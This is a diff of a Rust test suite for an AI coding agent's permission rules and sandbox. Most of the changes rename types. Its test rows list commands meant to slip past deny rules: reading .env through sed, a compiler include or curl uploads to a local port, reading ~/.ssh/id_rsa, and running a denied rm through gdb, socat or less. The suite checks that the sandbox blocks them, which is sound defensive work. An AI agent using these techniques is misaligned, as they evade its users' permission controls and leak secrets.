+    ("shared memory of others", PermissionMode::Default, &[], "/usr/bin/python3 -c 'import ctypes as c; l = c.CDLL(None, use_errno=True); l.shmat(7, 0, 0); print(\"refused\" if c.get_errno() == 1 else \"SECRET\")'"),
+    ("shared memory of others, removed", PermissionMode::Default, &[], "/usr/bin/python3 -c 'import ctypes as c; l = c.CDLL(None, use_errno=True); l.shmctl(7, 0, 0); print(\"refused\" if c.get_errno() == 1 else \"SECRET\")'"),
+    ("flags of a file", PermissionMode::Default, &[], "/usr/bin/python3 -c 'import ctypes as c; l = c.CDLL(None, use_errno=True); l.ioctl(l.open(b\"a.txt\", 0), 0x40086602, c.byref(c.c_long(64))); print(\"refused\" if c.get_errno() in (1, 30) else \"SECRET\")'"),
+    ("verity of a file", PermissionMode::Default, &[], "/usr/bin/python3 -c 'import ctypes as c; l = c.CDLL(None, use_errno=True); l.ioctl(l.open(b\"a.txt\", 0), 0x40806685, c.create_string_buffer(128)); print(\"refused\" if c.get_errno() in (1, 30) else \"SECRET\")'"),
+    ("limits of the agent", PermissionMode::Default, &[], "/usr/bin/python3 -c 'import os, resource as r; r.prlimit(os.getppid(), r.RLIMIT_NOFILE); print(\"SECRET\")'"),
+    ("a search by git where all commands are allowed", PermissionMode::Default, &["allow Bash", "deny Read(**/.env)"], "git grep --untracked SECRET"),
+    ("git behind its own options", PermissionMode::Default, &["allow Bash", "deny Read(**/.env)"], "git -C . diff --no-index empty ."),
+    ("grep -R without a folder", PermissionMode::Default, &["allow Bash", "deny Read(./.env)", "deny Read(./src/.env)"], "grep -R SECRET"),
+    ("grep -d recurse without a folder", PermissionMode::Default, &["allow Bash", "deny Read(./.env)", "deny Read(./src/.env)"], "grep -d recurse SECRET"),
+    ("an option of grep cut short", PermissionMode::Default, &["allow Bash", "deny Read(./.env)", "deny Read(./src/.env)"], "grep --rec SECRET"),
+    ("rgrep", PermissionMode::Default, &["allow Bash", "deny Read(./.env)", "deny Read(./src/.env)"], "rgrep SECRET"),
+    ("a file behind an at sign", PermissionMode::Default, &["allow Bash", "deny Read(./.env)"], "curl -s -d @.env http://127.0.0.1:@PORT@/"),
     // A fourth round, from docs/permissions.md alone.
-    ("a name after sed's r", Mode::Default, &["allow Bash(sed:*)", "deny Read(./.env)"], "sed 1r.env a.txt"),
-    ("a name after sed's R", Mode::Default, &["allow Bash(sed:*)", "deny Read(./.env)"], "sed -e 1R.env a.txt"),
-    ("a name after sed's r in an option", Mode::Default, &["allow Bash(sed:*)", "deny Read(./.env)"], "sed --expression=1r.env a.txt"),
-    ("a name after sed's r in braces", Mode::Default, &["allow Bash(sed:*)", "deny Read(./.env)"], "sed '1{r.env\n}' a.txt"),
-    ("a name after sed's r and an address", Mode::Default, &["allow Bash(sed:*)", "deny Read(./.env)"], "sed '/text/r.env' a.txt"),
-    ("a name in a folder after sed's r", Mode::Default, &["allow Bash(sed:*)", "deny Read(./.env)"], "sed 1rsrc/../.env a.txt"),
-    ("sed that reads its code", Mode::Default, &["allow Bash(sed:*)", "deny Read(./.env)"], "sed -f /dev/stdin a.txt <<< 1r.env"),
-    ("a name after sed's w", Mode::Default, &["allow Bash(sed:*)", "deny Edit(./.env)"], "sed -n 1w.env a.txt"),
-    ("the same for sed's s", Mode::Default, &["allow Bash(sed:*)", "deny Edit(./.env)"], "sed -n s/t/u/w.env a.txt"),
-    ("a folder that env goes to", Mode::Default, &["allow Bash(env:*)", "deny Read(./src/.env)"], "env --chdir=src cat .env"),
-    ("a search behind env", Mode::Default, &["allow Bash(env:*)", "deny Read(**/.env)"], "env grep -r SECRET ."),
-    ("a search behind nice", Mode::Default, &["allow Bash(nice:*)", "deny Read(**/.env)"], "nice -n 3 grep -r SECRET ."),
-    ("code for a compiler", Mode::Default, &["allow Bash(cc:*)", "deny Read(./.env)"], "cc -E -xc - <<< '#include \".env\"'"),
-    ("a file behind a less-than sign", Mode::Default, &["allow Bash(curl:*)", "deny Read(./.env)"], "curl -s -m 1 -F 'x=<.env' http://127.0.0.1:@PORT@/"),
-    ("a file before a semicolon", Mode::Default, &["allow Bash(curl:*)", "deny Read(./.env)"], "curl -s -m 1 -F 'x=@.env;type=text/plain' http://127.0.0.1:@PORT@/"),
-    ("a file after a comma", Mode::Default, &["allow Bash(curl:*)", "deny Read(./.env)"], "curl -s -m 1 -F 'x=@a.txt,.env' http://127.0.0.1:@PORT@/"),
-    ("deny rules: gdb", Mode::Default, &["allow Bash", "deny Bash(rm:*)"], "gdb -batch -ex '!rm a.txt'"),
-    ("deny rules: gcc -wrapper", Mode::Default, &["allow Bash", "deny Bash(rm:*)"], "touch $TMPDIR/x.c; gcc -wrapper rm,-f,a.txt,-- -c x.c"),
-    ("deny rules: socat", Mode::Default, &["allow Bash", "deny Bash(rm:*)"], "socat - EXEC:'rm a.txt'"),
-    ("deny rules: less", Mode::Default, &["allow Bash", "deny Bash(rm:*)"], "less '+!rm a.txt' a.txt"),
-    ("a folder copied to a refused name", Mode::AcceptEdits, &["deny Edit(.env.d/**)"], "cp -r empty .env.d"),
-    ("a folder moved to a refused name", Mode::AcceptEdits, &["deny Edit(.env.d/**)"], "mv empty .env.d"),
-    ("a repository without .git", Mode::Auto, &[], "mkdir -p n/objects n/refs; echo 'ref: refs/heads/main' > n/HEAD; cp docs/config n/config"),
-    ("the settings of a repository without .git", Mode::Auto, &[], "echo '[alias]' >> docs/config; mv docs/HEAD docs/x; echo x > docs/HEAD"),
-    ("the same where a rule allows it", Mode::Default, &["allow Bash(cp:*)", "deny Edit(.env.d/**)"], "cp -r empty .env.d"),
+    ("a name after sed's r", PermissionMode::Default, &["allow Bash(sed:*)", "deny Read(./.env)"], "sed 1r.env a.txt"),
+    ("a name after sed's R", PermissionMode::Default, &["allow Bash(sed:*)", "deny Read(./.env)"], "sed -e 1R.env a.txt"),
+    ("a name after sed's r in an option", PermissionMode::Default, &["allow Bash(sed:*)", "deny Read(./.env)"], "sed --expression=1r.env a.txt"),
+    ("a name after sed's r in braces", PermissionMode::Default, &["allow Bash(sed:*)", "deny Read(./.env)"], "sed '1{r.env\n}' a.txt"),
+    ("a name after sed's r and an address", PermissionMode::Default, &["allow Bash(sed:*)", "deny Read(./.env)"], "sed '/text/r.env' a.txt"),
+    ("a name in a folder after sed's r", PermissionMode::Default, &["allow Bash(sed:*)", "deny Read(./.env)"], "sed 1rsrc/../.env a.txt"),
+    ("sed that reads its code", PermissionMode::Default, &["allow Bash(sed:*)", "deny Read(./.env)"], "sed -f /dev/stdin a.txt <<< 1r.env"),
+    ("a name after sed's w", PermissionMode::Default, &["allow Bash(sed:*)", "deny Edit(./.env)"], "sed -n 1w.env a.txt"),
+    ("the same for sed's s", PermissionMode::Default, &["allow Bash(sed:*)", "deny Edit(./.env)"], "sed -n s/t/u/w.env a.txt"),
+    ("a folder that env goes to", PermissionMode::Default, &["allow Bash(env:*)", "deny Read(./src/.env)"], "env --chdir=src cat .env"),
+    ("a search behind env", PermissionMode::Default, &["allow Bash(env:*)", "deny Read(**/.env)"], "env grep -r SECRET ."),
+    ("a search behind nice", PermissionMode::Default, &["allow Bash(nice:*)", "deny Read(**/.env)"], "nice -n 3 grep -r SECRET ."),
+    ("code for a compiler", PermissionMode::Default, &["allow Bash(cc:*)", "deny Read(./.env)"], "cc -E -xc - <<< '#include \".env\"'"),
+    ("a file behind a less-than sign", PermissionMode::Default, &["allow Bash(curl:*)", "deny Read(./.env)"], "curl -s -m 1 -F 'x=<.env' http://127.0.0.1:@PORT@/"),
+    ("a file before a semicolon", PermissionMode::Default, &["allow Bash(curl:*)", "deny Read(./.env)"], "curl -s -m 1 -F 'x=@.env;type=text/plain' http://127.0.0.1:@PORT@/"),
+    ("a file after a comma", PermissionMode::Default, &["allow Bash(curl:*)", "deny Read(./.env)"], "curl -s -m 1 -F 'x=@a.txt,.env' http://127.0.0.1:@PORT@/"),
+    ("deny rules: gdb", PermissionMode::Default, &["allow Bash", "deny Bash(rm:*)"], "gdb -batch -ex '!rm a.txt'"),
+    ("deny rules: gcc -wrapper", PermissionMode::Default, &["allow Bash", "deny Bash(rm:*)"], "touch $TMPDIR/x.c; gcc -wrapper rm,-f,a.txt,-- -c x.c"),
+    ("deny rules: socat", PermissionMode::Default, &["allow Bash", "deny Bash(rm:*)"], "socat - EXEC:'rm a.txt'"),
+    ("deny rules: less", PermissionMode::Default, &["allow Bash", "deny Bash(rm:*)"], "less '+!rm a.txt' a.txt"),
+    ("a folder copied to a refused name", PermissionMode::AcceptEdits, &["deny Edit(.env.d/**)"], "cp -r empty .env.d"),
+    ("a folder moved to a refused name", PermissionMode::AcceptEdits, &["deny Edit(.env.d/**)"], "mv empty .env.d"),
+    ("a repository without .git", PermissionMode::Auto, &[], "mkdir -p n/objects n/refs; echo 'ref: refs/heads/main' > n/HEAD; cp docs/config n/config"),
+    ("the settings of a repository without .git", PermissionMode::Auto, &[], "echo '[alias]' >> docs/config; mv docs/HEAD docs/x; echo x > docs/HEAD"),
+    ("the same where a rule allows it", PermissionMode::Default, &["allow Bash(cp:*)", "deny Edit(.env.d/**)"], "cp -r empty .env.d"),
 ];
 
 /// An attempt that needs files of its own: what changes the world, then the attempt.
@@ -197,28 +197,28 @@ type RowWithFiles = (fn(&Path), Row);
 /// Attempts of the third round that need files of their own.
 #[rustfmt::skip]
 const WITH_FILES: &[RowWithFiles] = &[
-    (link_git, ("a .git that is a link", Mode::Auto, &[], "cat @HOME@/.ssh/id_rsa")),
-    (false_worktree, ("a .git that names a false worktree", Mode::Auto, &[], "cat @HOME@/.ssh/id_rsa")),
-    (run_by_git, ("git beside a command that a rule allows", Mode::Default, &["allow Bash(ls:*)"], "ls && git status")),
-    (run_by_git, ("the same with git diff", Mode::Default, &["allow Bash(ls:*)"], "git diff; ls")),
+    (link_git, ("a .git that is a link", PermissionMode::Auto, &[], "cat @HOME@/.ssh/id_rsa")),
+    (false_worktree, ("a .git that names a false worktree", PermissionMode::Auto, &[], "cat @HOME@/.ssh/id_rsa")),
+    (run_by_git, ("git beside a command that a rule allows", PermissionMode::Default, &["allow Bash(ls:*)"], "ls && git status")),
+    (run_by_git, ("the same with git diff", PermissionMode::Default, &["allow Bash(ls:*)"], "git diff; ls")),
 ];
 
 /// A scratch world: `home`, `out` and the session's folder `p`.
 pub(crate) struct World {
     folder: TempDir,
-    pub(crate) place: Place,
-    before: BTreeMap<PathBuf, String>,
+    pub(crate) workspace: Workspace,
+    files_before: BTreeMap<PathBuf, String>,
     /// They hear of every connection.
     listening: (TcpListener, UdpSocket, UnixListener, UnixDatagram),
 }
 
 impl World {
     pub(crate) fn new(texts: &[&str]) -> Self {
-        Self::with(texts, sandbox(), |_| {})
+        Self::with(texts, real_sandbox_options(), |_| {})
     }
 
     /// A world that is changed further before it is looked at.
-    fn with(texts: &[&str], sandbox: sandbox::Options, change: fn(&Path)) -> Self {
+    fn with(texts: &[&str], sandbox: sandbox::SandboxOptions, change: fn(&Path)) -> Self {
         let folder = tempfile::tempdir().unwrap();
         let at = |name: &str| folder.path().join(name);
         let write = |name: &str, text: &str| {
@@ -257,9 +257,12 @@ impl World {
         let outputs = at("outputs");
         let env = [("HOME", at("home").into_os_string()), ("PATH", std::env::var_os("PATH").unwrap())];
         let env = env.into_iter().map(|(name, value)| (name.into(), value)).collect();
-        let place = Place::new(at("p"), Options { env, outputs: Some(outputs), sandbox, ..Options::default() });
-        place.hide(hidden(&rules(texts), &place));
-        place.sandbox().refuse(refused(&rules(texts), &place));
+        let place = Workspace::new(
+            at("p"),
+            WorkspaceOptions { env, output_folder: Some(outputs), sandbox, ..WorkspaceOptions::default() },
+        );
+        place.set_hidden_files(hidden_file_filter(&parse_rules(texts), &place));
+        place.sandbox().set_restrictions(sandbox_restrictions(&parse_rules(texts), &place));
         let tcp = TcpListener::bind("127.0.0.1:0").unwrap();
         let udp = UdpSocket::bind(tcp.local_addr().unwrap()).unwrap();
         let unix = UnixListener::bind(at("out/sock")).unwrap();
@@ -268,8 +271,8 @@ impl World {
         unix.set_nonblocking(true).unwrap();
         let datagrams = UnixDatagram::bind(at("out/datagrams")).unwrap();
         datagrams.set_nonblocking(true).unwrap();
-        let before = state(folder.path());
-        Self { folder, place, before, listening: (tcp, udp, unix, datagrams) }
+        let before = file_states(folder.path());
+        Self { folder, workspace: place, files_before: before, listening: (tcp, udp, unix, datagrams) }
     }
 
     pub(crate) fn command(&self, text: &str) -> String {
@@ -281,8 +284,8 @@ impl World {
 
     /// What a command changed, connected to, or printed of a secret; none when it did no
     /// harm. Where edits are accepted, those of files that are not guarded are none.
-    pub(crate) fn harm(&self, output: &Output, mode: Mode) -> Option<String> {
-        let text = said(output);
+    pub(crate) fn harm(&self, output: &ToolOutput, mode: PermissionMode) -> Option<String> {
+        let text = output_text(output);
         if text.contains("SECRET") {
             return Some(format!("printed {text:?}"));
         }
@@ -291,22 +294,22 @@ impl World {
         if heard || tcp.accept().is_ok() || unix.accept().is_ok() {
             return Some("connected".to_owned());
         }
-        let after = state(self.folder.path());
-        let names = self.before.keys().chain(after.keys());
+        let after = file_states(self.folder.path());
+        let names = self.files_before.keys().chain(after.keys());
         let project = self.folder.path().join("p");
         let kept = [".git", ".claude", ".config", ".env", ".env.d", ".vscode", "HEAD", "docs"];
         let may = |name: &Path| {
             let below = name.strip_prefix(&project).unwrap_or(Path::new(".git"));
             mode.accepts_edits() && !below.iter().any(|name| kept.iter().any(|kept| name == *kept))
         };
-        let differ = names.filter(|name| self.before.get(*name) != after.get(*name));
+        let differ = names.filter(|name| self.files_before.get(*name) != after.get(*name));
         let changed: Vec<&PathBuf> = differ.filter(|name| !may(name)).collect();
         (!changed.is_empty()).then(|| format!("changed {changed:?}"))
     }
 }
 
 /// Every file of a folder with what can be seen of it; the agent's own outputs left out.
-fn state(folder: &Path) -> BTreeMap<PathBuf, String> {
+fn file_states(folder: &Path) -> BTreeMap<PathBuf, String> {
     let mut found = BTreeMap::new();
     let mut open = vec![folder.to_owned()];
     while let Some(path) = open.pop() {
@@ -327,7 +330,7 @@ fn state(folder: &Path) -> BTreeMap<PathBuf, String> {
 #[tokio::test]
 async fn the_sandbox_alone_holds_every_attempt() {
     if kernel_can() {
-        hold(ROWS.iter(), &sandbox()).await;
+        assert_harmless(ROWS.iter(), &real_sandbox_options()).await;
     }
 }
 
@@ -335,20 +338,24 @@ async fn the_sandbox_alone_holds_every_attempt() {
 async fn without_namespaces_it_holds_all_that_needs_no_covered_file() {
     if kernel_can() {
         let rows = ROWS.iter().filter(|(_, _, texts, _)| !texts.iter().any(|text| text.starts_with("deny Read")));
-        hold(rows, &sandbox::Options { assumed: Some(Level::WithoutMounts), ..sandbox() }).await;
+        assert_harmless(
+            rows,
+            &sandbox::SandboxOptions { assumed_level: Some(SandboxLevel::WithoutMounts), ..real_sandbox_options() },
+        )
+        .await;
     }
 }
 
 /// Runs attempts as if all of them only read.
-async fn hold(rows: impl Iterator<Item = &'static Row>, sandbox: &sandbox::Options) {
+async fn assert_harmless(rows: impl Iterator<Item = &'static Row>, sandbox: &sandbox::SandboxOptions) {
     let mut harm = Vec::new();
     for (name, _, texts, command) in rows {
         let world = World::with(texts, sandbox.clone(), |_| {});
         let input = json!({"command": world.command(command)});
-        let call = Call { profile: Profile::Read, ..Call::new("toolu_1") };
-        let output = Bash.run(input, &world.place, &call).await;
-        let done = world.harm(&output, Mode::Default);
-        harm.extend(done.map(|done| format!("{name}: {command:?} {done}: {}", said(&output))));
+        let call = CallContext { profile: SandboxProfile::Read, ..CallContext::new("toolu_1") };
+        let output = Bash.run(input, &world.workspace, &call).await;
+        let done = world.harm(&output, PermissionMode::Default);
+        harm.extend(done.map(|done| format!("{name}: {command:?} {done}: {}", output_text(&output))));
     }
     assert!(harm.is_empty(), "{harm:#?}");
 }
@@ -356,13 +363,14 @@ async fn hold(rows: impl Iterator<Item = &'static Row>, sandbox: &sandbox::Optio
 #[tokio::test]
 async fn no_attempt_does_harm() {
     let plain = ROWS.iter().map(|row| (row, World::new(row.2)));
-    let with_files = WITH_FILES.iter().map(|(change, row)| (row, World::with(row.2, sandbox(), *change)));
+    let with_files = WITH_FILES.iter().map(|(change, row)| (row, World::with(row.2, real_sandbox_options(), *change)));
     let mut harm = Vec::new();
     for ((name, mode, texts, command), world) in plain.chain(with_files) {
         let input = json!({"command": world.command(command)});
-        let verdict = judge(*mode, &rules(texts), "Bash", &input, &world.place);
-        if let Verdict::Allow { profile, .. } = verdict {
-            let output = Bash.run(input, &world.place, &Call { profile, ..Call::new("toolu_1") }).await;
+        let verdict = evaluate(*mode, &parse_rules(texts), "Bash", &input, &world.workspace);
+        if let Decision::Allow { profile, .. } = verdict {
+            let output =
+                Bash.run(input, &world.workspace, &CallContext { profile, ..CallContext::new("toolu_1") }).await;
             let done = world.harm(&output, *mode);
             harm.extend(done.map(|done| format!("{name}: {command:?}, allowed in {profile:?}, {done}")));
         }
